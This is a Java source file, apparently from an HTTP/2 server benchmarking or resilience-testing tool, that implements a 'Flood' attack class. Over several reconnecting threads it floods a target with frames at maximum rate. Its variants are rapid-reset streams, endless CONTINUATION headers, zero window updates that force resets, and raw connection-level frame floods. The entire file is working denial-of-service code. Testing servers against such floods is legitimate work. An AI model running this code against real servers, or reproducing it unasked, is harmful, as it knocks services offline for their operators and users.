package dev.pencilmark.bench.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;

/**
 * Sends frames without requests at the maximum rate; reconnects if the server closes the
 * connection.
 */
final class Flood implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int FRAMES = 500;

  /** The error code of a reset. */
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private static final byte[] NOTHING = new byte[4];

  private final Start start;
  private final Frame frame;

  /** Sends the first frames of a connection. */
  interface Start {
    void say(Http2 connection) throws IOException;
  }

  /** Creates a frame to be repeated. */
  interface Frame {
    byte[] bytes(int number);
  }

  Flood(Start start, Frame frame) {
    this.start = start;
    this.frame = frame;
  }

  /** Returns a flood of frames of the connection. */
  static Flood ofConnection(int type, byte... payload) {
    return new Flood(connection -> {}, number -> Http2.frame(type, 0, 0, payload));
  }

  /** Returns a flood of frames of an open call. */
  static Flood ofCall(String path, int type, byte... payload) {
    return new Flood(
        connection -> connection.start(Http2.headers(path)),
        number -> Http2.frame(type, 0, 1, payload));
  }

  /** Returns a flood of headers without end. */
  static Flood ofContinuations(String path) {
    return new Flood(
        connection -> connection.send(Http2.frame(Http2.HEADERS, 0, 1, Http2.headers(path))),
        number -> Http2.frame(Http2.CONTINUATION, 0, 1));
  }

  /** Returns a flood of calls that are cancelled immediately after their start. */
  static Flood ofResets(String path) {
    byte[] headers = Http2.headers(path);
    return new Flood(
        connection -> {},
        number ->
            Payloads.joined(
                Http2.frame(Http2.HEADERS, Http2.END_HEADERS, 2 * number + 1, headers),
                Http2.frame(Http2.RST_STREAM, 0, 2 * number + 1, CANCEL)));
  }

  /** Returns a flood of calls with a window update of 0, which the receiver must reset. */
  static Flood ofBrokenCalls(String path) {
    byte[] headers = Http2.headers(path);
    return new Flood(
        connection -> {},
        number ->
            Payloads.joined(
                Http2.frame(Http2.HEADERS, Http2.END_HEADERS, 2 * number + 1, headers),
                Http2.frame(Http2.WINDOW_UPDATE, 0, 2 * number + 1, NOTHING)));
  }

  @Override
  public void run(Target target) throws InterruptedException {
    target.repeat(
        CONNECTIONS,
        (thread, round) -> {
          try (Http2 connection = new Http2(target, true)) {
            target.count("connections");
            start.say(connection);
            for (int block = 0; !target.over(); block++) {
              ByteArrayOutputStream frames = new ByteArrayOutputStream();
              for (int i = 0; i < FRAMES; i++) {
                frames.writeBytes(frame.bytes(block * FRAMES + i));
              }
              connection.send(frames.toByteArray());
              target.count("times " + FRAMES + " frames");
            }
          }
        });
  }
}
